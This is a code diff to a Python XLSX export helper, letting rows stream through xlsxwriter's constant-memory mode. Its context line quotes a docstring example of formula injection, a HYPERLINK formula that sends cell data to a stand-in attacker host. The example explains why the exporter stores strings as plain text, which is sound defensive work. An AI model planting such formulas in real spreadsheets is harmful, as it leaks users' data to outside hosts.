@@ -19,7 +19,7 @@ A survey comment such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` or
 from __future__ import annotations
 
 import io
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -51,14 +51,15 @@ def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
     return out
 
 
-def xlsx_bytes(sheet: str, columns: Sequence[str], rows: Sequence[Sequence[Any]]) -> bytes:
+def xlsx_bytes(sheet: str, columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
     """One sheet as XLSX: a bold header row, strings as strings (module doc), ``None`` as
-    an empty cell."""
+    an empty cell. Rows may be an iterator: each is written out as it comes (constant
+    memory), so a large export is not held twice."""
     import xlsxwriter
 
     buf = io.BytesIO()
     options = {
-        "in_memory": True,
+        "constant_memory": True,
         "remove_timezone": True,
         "strings_to_formulas": False,
         "strings_to_urls": False,
